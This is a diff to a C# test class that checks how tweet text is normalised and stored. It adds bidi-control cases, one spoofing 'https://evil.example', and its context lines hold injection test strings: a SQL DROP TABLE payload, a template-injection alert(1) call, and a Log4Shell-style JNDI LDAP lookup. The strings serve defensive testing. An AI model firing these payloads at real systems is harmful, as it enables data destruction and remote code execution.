@@ -9,6 +9,8 @@ public class TweetText(App app)
     [InlineData("\u212B", "Å")]
     [InlineData("ﬁ ﷺ", "ﬁ ﷺ")]
     [InlineData("\u1100\u1161", "가")]
+    [InlineData("\u2066מזל טוב\u2069", "מזל טוב")]
+    [InlineData("\u202Ehttps://evil.example\u202C", "https://evil.example")]
     public async Task Is_normalised_and_trimmed(string typed, string stored)
     {
         var person = await app.RegisterAsync();
@@ -25,7 +27,7 @@ public class TweetText(App app)
     [InlineData("'; DROP TABLE tweets; --")]
     [InlineData("{{constructor.constructor('alert(1)')()}}")]
     [InlineData("%s%n%p ${jndi:ldap://example.org}")]
-    [InlineData("\u2066מזל טוב\u2069")]
+    [InlineData("\u200Fמזל טוב")]
     public async Task Stays_what_was_typed(string text)
     {
         var person = await app.RegisterAsync();
